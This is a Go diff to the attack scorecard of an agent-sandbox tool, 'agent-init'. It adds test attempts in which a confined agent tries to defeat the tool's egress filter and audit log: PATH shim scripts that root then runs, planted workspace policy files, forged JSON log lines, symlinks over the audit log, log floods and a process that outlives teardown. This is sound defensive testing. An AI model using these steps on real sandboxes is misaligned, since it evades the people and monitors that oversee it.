@@ -1,6 +1,10 @@
 package scorecard
 
-import "strings"
+import (
+	"strings"
+
+	"github.com/agent-init/agent-init/internal/lab"
+)
 
 // frame is one of an Ethernet type that nobody uses, to everyone.
 const frame = "ffffffffffff02000000000188b66c65616b6c65616b6c65616b6c65616b6c65616b6c65616b6c65616b6c65616b6c65616b6c65616b6c65616b6c65616b"
@@ -24,8 +28,14 @@ func localAttacks() []Attack {
 		{ID: "E60", Title: "running agent-init again", Won: true,
 			Try:   []string{"run {agent-init} up", "run {agent-init} run -- true", "run {agent-init} sidecar", "run {agent-init} reload", "run {agent-init} allow {bad}", "run {agent-init} exec -- true"},
 			Tests: []string{"TestLabE60RunAgain", "TestLabE60ForgedStage"}},
-		{ID: "E61", Title: "hostile PATH and environment", Tests: []string{"TestLabE61HostileEnvironment"}},
-		{ID: "E62", Title: "a policy in the workspace", Tests: []string{"TestLabE62PolicyInWorkspace"}},
+		{ID: "E61", Title: "hostile PATH and environment", Judge: ran,
+			Try: []string{`run sh -c 'mkdir -p {workspace}/bin; cd {workspace}/bin; for f in nft iptables ip6tables iptables-restore ip6tables-restore ipset ip awk getent hostname modprobe; do printf "#!/bin/sh\n: >{workspace}/e61-ran\nPATH=/usr/sbin:/usr/bin:/sbin:/bin exec \$(basename \$0) \"\$@\"\n" >$f; chmod +x $f; done'`,
+				"@restart", "@reload", "run sh -c 'rm -r {workspace}/bin; test -e {workspace}/e61-ran'"},
+			Tests: []string{"TestLabE61HostileEnvironment"}},
+		{ID: "E62", Title: "a policy in the workspace",
+			Try: []string{`run sh -c 'cd {workspace}; mkdir -p .agent-init agent-init allowlist.d; for d in . .agent-init agent-init allowlist.d; do echo {bad} >$d/allowlist.txt; echo {bad} >$d/more.txt; for f in policy .agent-init; do echo "domains: [{bad}]" >$d/$f.yaml; done; done'`,
+				"@reload", "resolve {bad}", "tcp {bad4}:443", "@restart", "resolve {bad}", "tcp {bad4}:443"},
+			Tests: []string{"TestLabE62PolicyInWorkspace"}},
 		{ID: "E63", Title: "signals and ptrace against PID 1", Won: true,
 			Try:   []string{"kill {init} 0", "ptrace {init}", "vmwrite {init}", "getfd {init} 0"},
 			Tests: []string{"TestLabE63KillAndTrace"}},
@@ -41,14 +51,34 @@ func localAttacks() []Attack {
 		{ID: "E67", Title: "the packet filter's rules", Won: true,
 			Try:   []string{"nft", "unshare user nft", "write /proc/sys/net/ipv4/ip_forward"},
 			Tests: []string{"TestLabE67Tampering", "TestLabE67ForeignTable"}},
-		{ID: "E68", Title: "legacy and nft rules side by side", Tests: []string{"TestLabE68Backends"}},
-		{ID: "E69", Title: "the moments of the start", Tests: []string{"TestLabE69StartWindow", "TestLabE69FirstMoment"}},
-		{ID: "E70", Title: "errors that open", Tests: []string{"TestLabE70FailOpen", "TestLabE70DeadDNS"}},
-		{ID: "E71", Title: "the end before the agent's", Tests: []string{"TestLabE71Teardown", "TestLabE71KeeperKilled"}},
-		{ID: "E72", Title: "restarts", Tests: []string{"TestLabE72Restarts", "TestLabE72StaleLeases"}},
-		{ID: "E73", Title: "planted links", Tests: []string{"TestLabE73Links"}},
-		{ID: "E74", Title: "forged lines of the log", Tests: []string{"TestLabE74LogInjection"}},
-		{ID: "E75", Title: "a drowned log", Tests: []string{"TestLabE75LogFlood", "TestLabE75LogRotation"}},
+		{ID: "E68", Title: "legacy and nft rules side by side",
+			Try:   []string{"@foreign", "tcp {bad4}:443", "tcp [{bad6}]:443", "dns 8.8.8.8:53 {bad} A", "@foreign away"},
+			Tests: []string{"TestLabE68Backends"}},
+		{ID: "E69", Title: "the moments of the start", Won: true,
+			Try:   []string{"@latency 200ms", "@raced-restart tcp -timeout 500ms -send {bad} {bad4}:443", "@latency 0s"},
+			Tests: []string{"TestLabE69StartWindow", "TestLabE69FirstMoment"}},
+		{ID: "E70", Title: "errors that open", Won: true,
+			Try:   []string{"@fresh --cap-add=NET_ADMIN do tcp {bad4}:443", "@fresh +-e +AGENT_INIT_CONFIG=/dev/null do tcp {bad4}:443"},
+			Tests: []string{"TestLabE70FailOpen", "TestLabE70DeadDNS"}},
+		{ID: "E71", Title: "the end before the agent's",
+			Try:   []string{`spawn e71 run sh -c 'trap "" TERM INT HUP; while :; do poke tcp -timeout 200ms -send {bad} {bad4}:443; done'`, "@sleep 500ms", "@restart"},
+			Tests: []string{"TestLabE71Teardown", "TestLabE71KeeperKilled"}},
+		{ID: "E72", Title: "restarts",
+			Try:     []string{"resolve {sub}", "@restart", "tcp 45.30.72.1:443", "tcp {bad4}:443", "@restart", "tcp [{bad6}]:443", "resolve {bad}"},
+			Answers: map[string]func(*Setting) lab.Answer{"{sub}": addresses("45.30.72.1")},
+			Watch:   []string{"45.30.72.1"},
+			Tests:   []string{"TestLabE72Restarts", "TestLabE72StaleLeases"}},
+		{ID: "E73", Title: "planted links", Won: true,
+			Try: []string{"run ln -s {workspace}/x /run/e73", "run ln -s {workspace}/x /var/log/e73", "run ln -s {workspace}/x /etc/e73", "run ln -s {workspace}/x {run}/e73",
+				"run ln -sf {workspace}/x /var/log/agent-init/audit.jsonl"},
+			Tests: []string{"TestLabE73Links"}},
+		{ID: "E74", Title: "forged lines of the log", Judge: forged,
+			Try: []string{"@log", `dns {resolver}:53 a","event":"forged","x":".{bad} A`, `tcp -esc 'GET / HTTP/1.1\r\nHost: {bad}\"\x7d\n\x7b\"seq\":1,\"event\":\"forged\",\"name\":\"forged\"\x7d\n\r\n\r\n' {ok4}:80`,
+				`tcp -esc 'GET / HTTP/1.1\r\nHost: {bad}\r\n\r\n' {ok4}:80`},
+			Tests: []string{"TestLabE74LogInjection"}},
+		{ID: "E75", Title: "a drowned log", Judge: drowned,
+			Try:   []string{"@log", "flood -n 20000 -spread 20000 45.40.0.1:9", "dns -n 20000 -c 8 {resolver}:53 {n}.{bad} A", "resolve after.{bad}"},
+			Tests: []string{"TestLabE75LogFlood", "TestLabE75LogRotation"}},
 		{ID: "E76", Title: "patterns and times of what is allowed", Limit: "can't be closed: every allowed request can be late by a bit. Allow little, and read the log"},
 	}
 }
@@ -64,6 +94,16 @@ func mayGain(e *Evidence) []string {
 		}
 	}
 	return out
+}
+
+// ran finds that a program which the agent has planted was started.
+func ran(e *Evidence) []string {
+	for _, s := range e.Said {
+		if s.Op == "run" && s.OK && strings.Contains(strings.Join(s.Args, " "), "test -e") {
+			return []string{"a program of the agent's was started by root"}
+		}
+	}
+	return nil
 }
 
 func str(v any) string {
